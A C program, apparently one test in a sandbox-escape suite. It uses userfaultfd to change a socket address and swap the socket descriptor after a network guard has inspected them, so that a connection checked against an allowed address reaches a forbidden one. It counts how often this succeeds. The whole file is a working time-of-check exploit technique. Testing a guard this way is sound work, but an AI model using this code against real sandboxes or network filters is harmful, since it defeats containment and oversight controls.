/* Memory that is filled when it is looked at (userfaultfd): the first look finds a Unix address, the second one an internet
   one, and by then the descriptor is an internet socket. No race is needed. */
#include "escape.h"
#include <linux/userfaultfd.h>

enum { PLACE = 100 };
static char *page;
static int faults, looks, internet, kind, twice;
static struct sockaddr_in second;

static void fill(const void *content, size_t size)
{
    static char copy[4096] __attribute__((aligned(4096)));
    memcpy(copy, content, size);
    struct uffdio_copy request = {.dst = (unsigned long)page, .src = (unsigned long)copy, .len = 4096};
    ioctl(faults, UFFDIO_COPY, &request);
}

static void *answer_looks(void *nothing)
{
    struct uffd_msg message;
    while (read(faults, &message, sizeof message) == sizeof message) {
        struct sockaddr_un nobody = {.sun_family = AF_UNIX, .sun_path = "\0nobody"};
        struct sockaddr_in first = allowed_address();
        if (looks++ == 0)
            fill(kind == AF_UNIX ? (void *)&nobody : (void *)&first, sizeof first);
        else
            fill(&second, sizeof second);
    }
    return nothing;
}

static void *swap_after_look(void *nothing)
{
    while (*(volatile int *)&looks == 0)
        ;
    usleep(100); /* the guard has copied it by now */
    dup2(internet, PLACE);
    madvise(page, 4096, MADV_DONTNEED);
    return nothing;
}

static int attempt(struct sockaddr_in address, int first_kind)
{
    pthread_t thread;
    struct sockaddr_in peer;
    socklen_t length = sizeof peer;
    looks = 0, second = address, kind = first_kind;
    madvise(page, 4096, MADV_DONTNEED);
    internet = stream();
    int cover = first_kind == AF_UNIX ? socket(AF_UNIX, SOCK_STREAM, 0) : stream();
    dup2(cover, PLACE);
    pthread_create(&thread, NULL, swap_after_look, NULL);
    connect(PLACE, (struct sockaddr *)page, sizeof address);
    pthread_join(thread, NULL);
    twice += looks > 1;
    /* A guard that was held up takes the second socket, and connects it to where the first look allows it to go. */
    int wrong = !getpeername(internet, (struct sockaddr *)&peer, &length) &&
                peer.sin_addr.s_addr == address.sin_addr.s_addr;
    close(internet), close(cover), close(PLACE);
    return wrong;
}

int main(int count, char **arguments)
{
    prepare(count, arguments);
    struct uffdio_api api = {.api = UFFD_API};
    faults = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
    if (faults < 0 || ioctl(faults, UFFDIO_API, &api)) {
        puts("userfaultfd is not there");
        return 0;
    }
    page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_register range = {.range = {(unsigned long)page, 4096}, .mode = UFFDIO_REGISTER_MODE_MISSING};
    ioctl(faults, UFFDIO_REGISTER, &range);
    spawn(answer_looks, NULL);
    int wrong = 0;
    for (int round = 0; round < rounds; round++)
        wrong += attempt(forbidden_address(), AF_UNIX) + attempt(forbidden_address(), AF_INET);
    printf("wrong %d\nlooked twice %d\n", wrong, twice > 0);
}
